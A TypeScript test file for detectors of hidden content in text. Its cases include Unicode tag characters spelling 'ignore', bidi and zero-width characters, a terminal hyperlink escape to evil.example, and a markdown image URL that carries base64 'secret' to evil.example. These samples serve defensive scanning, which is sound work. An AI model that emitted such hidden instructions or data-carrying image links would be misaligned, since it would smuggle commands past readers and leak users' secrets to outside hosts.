import { describe, expect, it } from 'vitest';
import { ChannelScan } from '../channel-scan.ts';
import { DetectorSet } from '../detector-set.ts';
import { hiddenDetectors } from './index.ts';

const detectors = new DetectorSet(hiddenDetectors);

function found(text: string): [string, string][] {
  const scan = new ChannelScan(detectors);
  scan.end(text);
  return scan.spans.map(({ kind, from, to }) => [kind, text.slice(from, to)]);
}

describe('detectors of what is hidden', () => {
  const tags = [...'ignore'].map((letter) => String.fromCodePoint(0xe0000 + letter.charCodeAt(0))).join('');

  it.each([
    ['unicode-tags', tags],
    ['variation-selectors', '\ufe00\ufe01\ufe02'],
    ['variation-selectors', String.fromCodePoint(0xe0100, 0xe0101)],
    ['bidi-controls', '\u202e'],
    ['zero-width', '\u200b\u200b'],
    ['zero-width', '\u200d'],
    ['terminal-escapes', '\u001b[31;1m'],
    ['terminal-escapes', '\u001b]8;;https://evil.example\u0007'],
  ])('find %s', (kind, hidden) => {
    expect(found(`ab${hidden}cd`)).toEqual([[kind, hidden]]);
  });

  it('find an image that tells something to whoever serves it', () => {
    expect(found('![x](https://evil.example/p.png?d=c2VjcmV0) ok')).toEqual([
      ['image-link', 'https://evil.example/p.png?d=c2VjcmV0'],
    ]);
    expect(found('![logo](https://example.com/logo.png)')).toEqual([]);
  });

  it.each(['❤️ and 👨‍👩‍👧 and 🏳️‍🌈', 'नमस्ते क्‍ष', 'می‌خواهم', 'plain'])('leave %s as it is', (text) =>
    expect(found(text)).toEqual([]),
  );
});
